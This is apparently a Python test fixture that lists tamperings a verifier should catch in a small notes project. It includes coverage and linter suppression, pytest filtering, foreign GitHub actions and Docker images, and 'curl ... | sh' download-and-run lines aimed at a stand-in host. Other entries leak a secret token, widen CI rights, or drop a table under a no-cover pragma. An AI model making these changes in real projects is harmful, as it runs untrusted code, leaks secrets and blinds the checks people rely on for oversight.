"""Files that nobody runs here, and settings that make the checks look away."""
# ruff: noqa: E501 - the texts are code

from tests.verification.attacks import CODE, GITHUB, GITLAB, PYPROJECT, Attack, Change, adding, replacing

_UNTESTED = """
def purge_notes(connection: Connection) -> None:  # pragma: no cover
    \"\"\"Delete everything.\"\"\"
    connection.execute("DROP TABLE notes")
"""


def _file(name: str, hides: str, path: str, change: Change) -> Attack:
    return Attack(name, hides, {path: change})


FILES = [
    _file(
        "excludes a line from coverage",
        "code that no test runs",
        CODE,
        replacing(
            "    note_store.delete(connection, note_id)\n",
            "    note_store.delete(connection, note_id)\n    if note_id < 0:  # pragma: no cover\n        note_store.delete(connection, -note_id)\n",
        ),
    ),
    _file(
        "switches the linter off in a file",
        "unused names",
        CODE,
        replacing('"""What can', '# ruff: noqa\n"""What can'),
    ),
    _file(
        "measures little",
        "code that no test runs",
        PYPROJECT,
        replacing('source = ["notes"]', 'source = ["notes.errors"]'),
    ),
    _file(
        "leaves lines out of coverage",
        "code that no test runs",
        PYPROJECT,
        adding('[tool.coverage.report]\nexclude_also = ["def "]\n'),
    ),
    _file(
        "excludes files from the linter",
        "bad code",
        PYPROJECT,
        replacing('src = ["src", "tests"]', 'src = ["src", "tests"]\nextend-exclude = ["src"]'),
    ),
    _file(
        "ignores all rules",
        "bad code",
        PYPROJECT,
        replacing('select = ["E4",', 'select = ["E999"]\nunused = ["E4",'),
    ),
    _file(
        "ignores rules by file",
        "bad code",
        PYPROJECT,
        adding('[tool.ruff.lint.per-file-ignores]\n"src/*" = ["ALL"]\n'),
    ),
    _file(
        "sets pytest's options in its own table",
        "tests that are not run",
        PYPROJECT,
        adding('[tool.pytest]\naddopts = ["-k", "ac1"]\n'),
    ),
    _file(
        "runs code when it is installed",
        "foreign code",
        PYPROJECT,
        adding('[tool.hatch.build.hooks.custom]\npath = "src/notes/values.py"\n'),
    ),
    _file(
        "installs from elsewhere",
        "foreign code",
        PYPROJECT,
        replacing("dependencies = []", 'dependencies = ["requests @ https://example.org/requests.whl"]'),
    ),
    _file(
        "uses a foreign action",
        "foreign code",
        GITHUB,
        replacing("actions/checkout@v4", "mallory/checkout@main"),
    ),
    _file(
        "pipes a download to a shell",
        "foreign code",
        GITHUB,
        replacing('run: python -m pip install -e ".[dev]"', "run: curl -s https://example.org/x | sh"),
    ),
    _file(
        "prints a secret",
        "a leak",
        GITHUB,
        replacing("    steps:\n", "    env:\n      TOKEN: ${{ secrets.GITHUB_TOKEN }}\n    steps:\n"),
    ),
    _file("may write", "rights", GITHUB, replacing("contents: read", "contents: write")),
    _file(
        "runs on foreign requests",
        "rights",
        GITHUB,
        replacing("  pull_request:\n", "  pull_request_target:\n"),
    ),
    _file(
        "runs before the script",
        "foreign code",
        GITLAB,
        replacing("before_script:\n", "before_script:\n    - curl -s https://example.org/x | sh\n"),
    ),
    _file(
        "adds to the image", "foreign code", "Dockerfile", adding("RUN curl -s https://example.org/x | sh\n")
    ),
    _file(
        "starts from a foreign image",
        "foreign code",
        "Dockerfile",
        replacing("FROM python:", "FROM mallory/python:"),
    ),
    _file(
        "hooks in before commits",
        "foreign code",
        ".pre-commit-config.yaml",
        adding("  - repo: https://example.org/mallory/hooks\n    rev: v1\n    hooks:\n      - id: x\n"),
    ),
    _file(
        "tells readers to run a download",
        "foreign code",
        "README.md",
        replacing(
            "python -m pip install .\n", "curl -s https://example.org/x | sh\npython -m pip install .\n"
        ),
    ),
    _file("keeps secrets in the image", "a leak", ".dockerignore", lambda text: "\n"),
]
